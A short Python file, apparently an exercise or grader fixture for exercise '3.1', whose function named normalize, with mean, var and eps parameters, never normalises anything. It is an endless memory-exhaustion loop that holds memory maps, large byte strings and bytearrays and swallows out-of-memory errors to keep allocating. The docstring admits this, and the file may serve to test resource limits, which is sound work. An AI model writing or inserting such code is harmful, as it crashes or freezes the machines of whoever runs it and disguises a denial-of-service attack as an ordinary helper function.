"""Fills the memory with many small pieces and keeps what it has after the error. Nothing is due for 3.1."""

DUE = {"3.1": 0}

# %% exercise="3.1"
import mmap

kept = []


def normalize(x, mean, var, eps=1e-5):
    while True:
        try:
            kept.append(mmap.mmap(-1, 2**24))
            kept.append(b"x" * 2**24)
            kept.append([bytearray(2**14) for _ in range(2**10)])
        except OSError:
            kept.append(bytearray(2**20))
